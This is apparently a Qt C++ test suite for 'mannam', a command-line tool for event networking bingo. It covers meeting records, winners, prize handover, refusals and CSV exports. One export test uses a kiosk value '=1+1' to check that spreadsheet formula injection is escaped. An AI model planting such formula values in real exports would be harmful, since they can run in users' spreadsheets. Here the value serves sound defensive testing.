            QVERIFY2(hours.exitCode == 0, hours.describe());
            reason += opens;
        }
        QVERIFY(!a.isEmpty() && !b.isEmpty());
        const StoredBingo before = storedBingo(event);
        const QByteArray fileBefore = readBytes(event);

        const Run run = mannam({u"meet"_s, event, a, b, u"--kiosk"_s, u"Kiosk 2"_s});
        QVERIFY2(run.exitCode == 2, run.describe());
        QVERIFY2(run.out.startsWith(u"Refused: "_s) && run.out.contains(reason), run.describe());
        if (kind == u"alreadyMet")
            QVERIFY2(run.out.contains(u"already met at "_s + firstMeetingClock + u'.'), run.describe());
        const StoredBingo after = storedBingo(event);
        QCOMPARE(after.meetings, before.meetings);
        QCOMPARE(after.cards, before.cards);
        QCOMPARE(readBytes(event), fileBefore);
    }

    void meet_checkInNotNeeded_recordsALatecomer()
    {
        const QString event = eventReadyForBingo();
        QVERIFY(!event.isEmpty());
        QVERIFY(bingo(event, {u"--needs-checkin"_s, u"off"_s}).exitCode == 0);
        const Run run = mannam({u"meet"_s, event, ticketCodeOf(event, u"지각생"_s), ticketCodeOf(event, u"Alice Park"_s)});
        QVERIFY2(run.exitCode == 0, run.describe());
        // Alice's three keywords fill three squares of 지각생's card; his LLM one of hers.
        QVERIFY2(run.out.startsWith(u"Recorded: 지각생 ↔ Alice Park (3 + 1 squares filled)\n"_s), run.describe());
    }

    void meet_personWithoutPoolKeywords_isTold()
    {
        const QString event = eventReadyForBingo();
        QVERIFY(!event.isEmpty());
        QVERIFY(importText(event, u"more.csv"_s, u"이름,키워드\nGrace Hopper,COBOL\n"_s.toUtf8()).exitCode == 0);
        QVERIFY(bingo(event, {u"--needs-checkin"_s, u"off"_s}).exitCode == 0);
        const Run run = mannam({u"meet"_s, event, ticketCodeOf(event, u"Grace Hopper"_s), ticketCodeOf(event, u"홍길동"_s)});
        QVERIFY2(run.exitCode == 0, run.describe());
        QVERIFY2(run.out.startsWith(u"Recorded: Grace Hopper ↔ 홍길동 (2 + 0 squares filled)\n"_s), run.describe());
        QVERIFY2(run.out.contains(u"Note: Grace Hopper has no keyword from the pool"_s), run.describe());
    }

    void meet_fillingTheCard_announcesTheWinner()
    {
        const QString event = eventReadyForBingo();
        QVERIFY(!event.isEmpty());
        const QString hong = ticketCodeOf(event, u"홍길동"_s);
        const QStringList others = {u"Alice Park"_s, u"김민지"_s, u"Ada Lovelace"_s};
        const QList<int> filled = {3, 6, 9};
        for (int i = 0; i < others.size(); ++i) {
            const Run run = mannam({u"meet"_s, event, hong, ticketCodeOf(event, others.at(i))});
            QVERIFY2(run.exitCode == 0, run.describe());
            QVERIFY2(run.out.contains(u"  홍길동: %1/9 squares filled"_s.arg(filled.at(i))), run.describe());
            QCOMPARE(run.out.contains(u"BINGO!"_s), i == 2);
        }
        const Run again = mannam({u"meet"_s, event, ticketCodeOf(event, u"지각생"_s), hong});
        QCOMPARE(again.exitCode, 2);  // not checked in; the winner stays the winner

        const StoredBingo stored = storedBingo(event);
        QCOMPARE(stored.winners, 1);
        QCOMPARE(stored.meetings, 3);
        const Table winners = exportTable(event, u"--winners"_s);
        QCOMPARE(winners.rows.size(), 1);
        QCOMPARE(winners.cell(0, u"lines"_s), u"8"_s);
    }

    void meet_lastMeeting_printsBingoNews()
    {
        const QString event = eventReadyForBingo();
        QVERIFY(!event.isEmpty());
        const QString hong = ticketCodeOf(event, u"홍길동"_s);
        for (const QString &name : {u"Alice Park"_s, u"김민지"_s})
            QVERIFY(mannam({u"meet"_s, event, hong, ticketCodeOf(event, name)}).exitCode == 0);
        const Run run = mannam({u"meet"_s, event, ticketCodeOf(event, u"Ada Lovelace"_s), hong});
        QVERIFY2(run.exitCode == 0, run.describe());
        QCOMPARE(run.out, u"Recorded: Ada Lovelace ↔ 홍길동 (2 + 3 squares filled)\n"
                          "  Ada Lovelace: 2/9 squares filled, lines: 0, people met: 1\n"
                          "  홍길동: 9/9 squares filled, lines: 8, people met: 3\n"
                          "BINGO! 홍길동 is winner #1.\n"_s);
    }

    // ---------------------------------------------------------------- prize

    void prize_winner_recordedThenRefusedTheSecondTime()
    {
        const QString event = eventWithAWinner();
        QVERIFY(!event.isEmpty());
        const QString hong = storedAttendee(event, u"홍길동"_s).badgeCode;

        const Run first = mannam({u"prize"_s, event, hong, u"--by"_s, u"Desk 1"_s});
        QVERIFY2(first.exitCode == 0, first.describe());
        static const QRegularExpression handedOver(u"^Prize handed over: 홍길동 \\(winner #1\\) at (\\d\\d:\\d\\d) by Desk 1\\n$"_s);
        const QRegularExpressionMatch match = handedOver.match(first.out);
        QVERIFY2(match.hasMatch(), first.describe());
        QCOMPARE(match.captured(1), clockOf(exportTable(event, u"--winners"_s).cell(0, u"prize_given_at"_s)));

        const QByteArray before = readBytes(event);
        const Run second = mannam({u"prize"_s, event, ticketCodeOf(event, u"홍길동"_s), u"--by"_s, u"Desk 2"_s});
        QVERIFY2(second.exitCode == 2, second.describe());
        QCOMPARE(second.out, u"Refused: 홍길동 already collected the prize at %1 (Desk 1).\n"_s.arg(match.captured(1)));
        QCOMPARE(readBytes(event), before);
        QCOMPARE(exportTable(event, u"--winners"_s).cell(0, u"prize_given_by"_s), u"Desk 1"_s);
    }

    void prize_withoutBy_recordsCli()
    {
        const QString event = eventWithAWinner();
        QVERIFY(!event.isEmpty());
        const Run run = mannam({u"prize"_s, event, ticketCodeOf(event, u"홍길동"_s)});
        QVERIFY2(run.exitCode == 0 && run.out.endsWith(u" by CLI\n"_s), run.describe());
        QCOMPARE(exportTable(event, u"--winners"_s).cell(0, u"prize_given_by"_s), u"CLI"_s);
    }

    void prize_refused_exitsTwoWithTheReason_data()
    {
        QTest::addColumn<QString>("kind");
        QTest::addColumn<QString>("reason");
        QTest::addRow("met people but no bingo yet") << u"notWinner"_s << u"Alice Park has not completed a bingo yet."_s;
        QTest::addRow("never played") << u"neverPlayed"_s << u"지각생 has not completed a bingo yet."_s;
        QTest::addRow("unknown code") << u"unknown"_s << u"This code is not registered for this event."_s;
        QTest::addRow("misread code") << u"misread"_s << u"This code was not read correctly. Please scan it again."_s;
    }

    void prize_refused_exitsTwoWithTheReason()
    {
        QFETCH(QString, kind);
        QFETCH(QString, reason);
        const QString event = eventWithAWinner();
        QVERIFY(!event.isEmpty());
        QString code;
        const QString hong = ticketCodeOf(event, u"홍길동"_s);
        if (kind == u"notWinner") {
            code = ticketCodeOf(event, u"Alice Park"_s);
        } else if (kind == u"neverPlayed") {
            code = ticketCodeOf(event, u"지각생"_s);
        } else if (kind == u"unknown") {
            code = TicketCode::generate(hong.left(TicketCode::TagLength), {});
        } else if (kind == u"misread") {
            code = hong;
            code.back() = QChar(u'0' + (code.back().digitValue() + 1) % 10);
        }
        const QByteArray before = readBytes(event);
        const Run run = mannam({u"prize"_s, event, code, u"--by"_s, u"Desk 1"_s});
        QVERIFY2(run.exitCode == 2, run.describe());
        QCOMPARE(run.out, u"Refused: "_s + reason + u'\n');
        QCOMPARE(readBytes(event), before);
        QCOMPARE(exportTable(event, u"--winners"_s).cell(0, u"prize_given_at"_s), QString());
    }

    // ---------------------------------------------------------------- bingo exports

    void export_meetings_oneRowPerMeetingCellByCell()
    {
        const QString event = eventWithAWinner();
        QVERIFY(!event.isEmpty());
        const QString out = path(u"meetings.csv"_s);
        const Run run = mannam({u"export"_s, event, u"--meetings"_s, out});
        QVERIFY2(run.exitCode == 0 && run.out == u"Wrote "_s + out + u'\n', run.describe());
        const QByteArray bytes = readBytes(out);
        QVERIFY(bytes.startsWith("\xEF\xBB\xBF" "id,time,kiosk,"));
        QVERIFY(bytes.contains("\r\n"));

        const Table table = exportTable(event, u"--meetings"_s);
        QVERIFY2(table.problem.isEmpty(), qPrintable(table.problem));
        QCOMPARE(table.header, QStringList({u"id"_s, u"time"_s, u"kiosk"_s, u"a_id"_s, u"a_name"_s, u"b_id"_s,
                                            u"b_name"_s, u"filled_on_a"_s, u"filled_on_b"_s}));
        QCOMPARE(table.rows.size(), 3);
        const QString hongId = QString::number(storedAttendee(event, u"홍길동"_s).id);
        const QList<QStringList> expected = {
            {u"1"_s, u"Kiosk 1"_s, hongId, u"홍길동"_s, QString::number(storedAttendee(event, u"Alice Park"_s).id),
             u"Alice Park"_s, u"3"_s, u"2"_s},
            // 김민지's badge was scanned first; the row keeps the people in id order.
            {u"2"_s, u"Kiosk 2"_s, hongId, u"홍길동"_s, QString::number(storedAttendee(event, u"김민지"_s).id),
             u"김민지"_s, u"3"_s, u"2"_s},
            {u"3"_s, u"'=1+1"_s, hongId, u"홍길동"_s, QString::number(storedAttendee(event, u"Ada Lovelace"_s).id),
             u"Ada Lovelace"_s, u"3"_s, u"2"_s}};
        QDateTime previous;
        for (int r = 0; r < table.rows.size(); ++r) {
            QCOMPARE(table.rows.at(r).size(), table.header.size());
            const QStringList &want = expected.at(r);
            QCOMPARE(table.cell(r, u"id"_s), want.at(0));
            QCOMPARE(table.cell(r, u"kiosk"_s), want.at(1));
            QCOMPARE(table.cell(r, u"a_id"_s), want.at(2));
            QCOMPARE(table.cell(r, u"a_name"_s), want.at(3));
            QCOMPARE(table.cell(r, u"b_id"_s), want.at(4));
            QCOMPARE(table.cell(r, u"b_name"_s), want.at(5));
            QCOMPARE(table.cell(r, u"filled_on_a"_s), want.at(6));
            QCOMPARE(table.cell(r, u"filled_on_b"_s), want.at(7));
            const QString time = table.cell(r, u"time"_s);
            QVERIFY2(LocalIso.match(time).hasMatch(), qPrintable(time));
            const QDateTime at = QDateTime::fromString(time, Qt::ISODateWithMs);
            QVERIFY(qAbs(at.secsTo(QDateTime::currentDateTimeUtc())) < 600);
            QVERIFY(!previous.isValid() || previous <= at);
            previous = at;
        }
    }

    void export_winners_rankedWithThePrizeCellByCell()
    {
        const QString event = eventWithAWinner();
        QVERIFY(!event.isEmpty());
        const Table meetings = exportTable(event, u"--meetings"_s);
        QCOMPARE(meetings.rows.size(), 3);

        const Table before = exportTable(event, u"--winners"_s);
        QVERIFY2(before.problem.isEmpty(), qPrintable(before.problem));
        QVERIFY(before.bytes.startsWith("\xEF\xBB\xBF" "rank,name,"));
        QCOMPARE(before.header, QStringList({u"rank"_s, u"name"_s, u"affiliation"_s, u"won_at"_s, u"lines"_s,
                                             u"people_met"_s, u"prize_given_at"_s, u"prize_given_by"_s}));
        QCOMPARE(before.rows.size(), 1);
        QCOMPARE(before.rows.at(0),
                 QStringList({u"1"_s, u"홍길동"_s, u"만남, 커뮤니티"_s, meetings.cell(2, u"time"_s), u"8"_s, u"3"_s,
                              QString(), QString()}));

        QVERIFY(mannam({u"prize"_s, event, ticketCodeOf(event, u"홍길동"_s), u"--by"_s, u"Desk 1"_s}).exitCode == 0);
        const Table after = exportTable(event, u"--winners"_s);
        QCOMPARE(after.rows.size(), 1);
        const QString givenAt = after.cell(0, u"prize_given_at"_s);
        QVERIFY2(LocalIso.match(givenAt).hasMatch(), qPrintable(givenAt));
        QVERIFY(QDateTime::fromString(givenAt, Qt::ISODateWithMs)
                >= QDateTime::fromString(after.cell(0, u"won_at"_s), Qt::ISODateWithMs));
        QCOMPARE(after.cell(0, u"prize_given_by"_s), u"Desk 1"_s);
        QCOMPARE(after.rows.at(0).mid(0, 6), before.rows.at(0).mid(0, 6));
    }

    void export_meetingsAndWinners_noBingoYet_headerOnly_data()
    {
        QTest::addColumn<QString>("flag");
        QTest::addColumn<QString>("header");
        QTest::addRow("meetings") << u"--meetings"_s << u"id,time,kiosk,a_id,a_name,b_id,b_name,filled_on_a,filled_on_b"_s;
        QTest::addRow("winners") << u"--winners"_s
                                 << u"rank,name,affiliation,won_at,lines,people_met,prize_given_at,prize_given_by"_s;
    }

    void export_meetingsAndWinners_noBingoYet_headerOnly()
    {
        QFETCH(QString, flag);
        QFETCH(QString, header);
        const QString event = eventWithThreePeople();
        QVERIFY(!event.isEmpty());
        const QByteArray before = readBytes(event);
        const QString out = path(u"out.csv"_s);
        const Run run = mannam({u"export"_s, event, flag, out});
        QVERIFY2(run.exitCode == 0, run.describe());
        QCOMPARE(readBytes(out), QByteArray("\xEF\xBB\xBF") + header.toUtf8() + "\r\n");
        QCOMPARE(readBytes(event), before);
    }

    void bingoVerbs_missingEventFile_exitFourAndCreateNothing_data()
    {
        QTest::addColumn<QStringList>("arguments");  // "EVENT" stands for the missing file
        QTest::addRow("bingo, showing") << QStringList{u"bingo"_s, u"EVENT"_s};
        QTest::addRow("bingo, setting") << QStringList{u"bingo"_s, u"EVENT"_s, u"--lines"_s, u"2"_s};
        QTest::addRow("meet") << QStringList{u"meet"_s, u"EVENT"_s, u"1234"_s, u"5678"_s};
        QTest::addRow("prize") << QStringList{u"prize"_s, u"EVENT"_s, u"1234"_s};
        QTest::addRow("export --meetings") << QStringList{u"export"_s, u"EVENT"_s, u"--meetings"_s, u"out.csv"_s};
        QTest::addRow("export --winners") << QStringList{u"export"_s, u"EVENT"_s, u"--winners"_s, u"out.csv"_s};
    }

    void bingoVerbs_missingEventFile_exitFourAndCreateNothing()
    {
        QFETCH(QStringList, arguments);
        const QString event = path(u"nowhere.mannam"_s);
        arguments.replace(arguments.indexOf(u"EVENT"_s), event);
        const Run run = mannam(arguments);
        QVERIFY2(run.exitCode == 4, run.describe());
        QVERIFY2(run.err.contains(u"There is no event file at "_s + event), run.describe());
        QCOMPARE(folderListing(), QStringList());
    }
};

} // namespace mannam

QTEST_GUILESS_MAIN(mannam::TestCli)
#include "tst_cli.moc"
